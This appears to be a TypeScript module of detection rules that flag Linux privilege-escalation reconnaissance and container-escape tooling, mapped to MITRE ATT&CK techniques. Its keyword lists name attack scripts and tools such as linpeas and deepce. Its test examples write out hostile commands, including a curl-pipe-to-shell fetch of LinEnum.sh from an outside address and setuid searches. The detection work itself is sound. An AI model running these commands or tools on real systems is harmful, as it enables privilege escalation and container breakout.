import type { Indicator } from "../../indicator.ts";
import { argumentText, calls, hasWord, wordWhere } from "../execution/calls.ts";
import { inContainer, onHost, ran } from "../execution/examples.ts";
import { needles } from "../execution/needles.ts";

/** Looking for ways to root and out of the container. */

const auditScripts = [
  "linpeas",
  "linenum",
  "linux-exploit-suggester",
  "linux-smart-enumeration",
  "/lse.sh",
  "./lse.sh",
  "unix-privesc-check",
  "linuxprivchecker",
  "pspy64",
  "pspy32",
  "pspy ",
  "les.sh",
  "traitor-amd64",
  "sudo_killer",
  "privesccheck",
  "gtfoblookup",
  "linux-priv-checker",
];

const containerTools = [
  "amicontained",
  "deepce",
  "botb-linux",
  "break-out-the-box",
  "kube-hunter",
  "kubeletctl",
  "peirates",
  "cdk_linux",
  "cdk evaluate",
  "cdk run",
  "kubestriker",
  "kdigger",
  "ctrsploit",
  "container-escape-check",
  "kubesploit",
];

export const searchesSetuidPrograms: Indicator = {
  id: "searches-setuid-programs",
  behaviour: "searches for programs that run as root for everybody (setuid, capabilities)",
  meaning: "One such program with a flaw, or one that should not be there, makes anyone root.",
  technique: "T1083",
  tactic: "discovery",
  alsoTechniques: ["T1548.001"],
  severity: "high",
  certainty: "likely",
  platforms: ["Linux"],
  families: ["syscall", "plugin"],
  source: "https://attack.mitre.org/techniques/T1548/001/",
  match: calls(new Set(["find", "getcap", "fd"]), (call) => {
    if (call.program === "getcap")
      return hasWord(call, "-r") && wordWhere(call, (value) => value === "/" || value.startsWith("/"));
    const text = argumentText(call);
    return /-perm (?:[-/+]?0?[24675][0-7]{3}|[-/+][ugoa,]*[+=]?s|[-/+]u=s|[-/+]g=s|[-/+]6000)/.test(text);
  }),
  examples: {
    found: [
      ran("find / -perm -4000 -type f", inContainer),
      ran("sh -c find / -perm -u=s -type f 2>/dev/null"),
      ran("getcap -r /"),
      ran("find / -perm /6000"),
    ],
    ignored: [ran("find /srv -perm 644"), ran("getcap /usr/bin/ping"), ran("find / -name setuid.c")],
  },
};

export const runsPrivilegeAuditScript: Indicator = {
  id: "runs-privilege-audit-script",
  behaviour: "runs a script that collects every way to become root",
  meaning: "The script does in a minute what an intruder would look for by hand.",
  technique: "T1082",
  tactic: "discovery",
  alsoTechniques: ["T1083", "T1057", "T1068"],
  severity: "high",
  certainty: "certain",
  platforms: ["Linux"],
  families: ["syscall", "plugin"],
  source: "https://attack.mitre.org/techniques/T1082/",
  match: needles(auditScripts),
  examples: {
    found: [
      ran("bash /tmp/linpeas.sh -a", inContainer),
      ran("sh -c curl -L http://203.0.113.9/LinEnum.sh | sh"),
      ran("/tmp/pspy64", { "proc.exepath": "/tmp/pspy64" }),
    ],
    ignored: [ran("cat peas.txt"), ran("ls /opt/else.shx")],
  },
};

export const runsContainerAttackTool: Indicator = {
  id: "runs-container-attack-tool",
  behaviour: "runs a tool that looks for ways out of a container or through a cluster",
  meaning: "It lists rights, mounts and tokens, and some of these tools use what they find at once.",
  technique: "T1613",
  tactic: "discovery",
  alsoTechniques: ["T1611", "T1046"],
  severity: "high",
  certainty: "certain",
  platforms: ["Containers"],
  families: ["syscall", "k8s_audit", "plugin"],
  source: "https://attack.mitre.org/techniques/T1613/",
  match: needles(containerTools),
  examples: {
    found: [
      ran("amicontained", inContainer),
      ran("sh -c ./deepce.sh", inContainer),
      ran("kube-hunter --pod", inContainer),
    ],
    ignored: [ran("docker-compose up kube", onHost), ran("cdk deploy", onHost)],
  },
};

export const asksWhetherContainer: Indicator = {
  id: "asks-whether-container",
  behaviour: "finds out whether it is in a container and what that container may do",
  meaning: "It is the step before looking for a way out.",
  technique: "T1613",
  tactic: "discovery",
  alsoTechniques: ["T1497.001", "T1611"],
  severity: "medium",
  certainty: "weak",
  platforms: ["Containers"],
  families: ["syscall", "plugin"],
  source: "https://attack.mitre.org/techniques/T1613/",
  match: calls(
    new Set(["ls", "cat", "stat", "test", "[", "capsh", "grep", "find", "head", "systemd-detect-virt"]),
    (call) => {
      if (call.program === "capsh") return hasWord(call, "--print");
      if (call.program === "systemd-detect-virt") return true;
      return wordWhere(
        call,
        (value) =>
          /^\/(?:\.dockerenv|run\/\.containerenv|proc\/(?:1|self|\d+)\/(?:cgroup|status|sched|ns\/?\w*)|sys\/fs\/cgroup\/release_agent)$/.test(
            value,
          ) || value.toLowerCase() === "capeff",
      );
    },
  ),
  examples: {
    found: [
      ran("cat /proc/1/cgroup", inContainer),
      ran("ls -la /.dockerenv", inContainer),
      ran("capsh --print", inContainer),
      ran("grep CapEff /proc/self/status", inContainer),
    ],
    ignored: [ran("cat /sys/fs/cgroup/memory.max", inContainer), ran("ls /proc/1/fd"), ran("capsh --help")],
  },
};
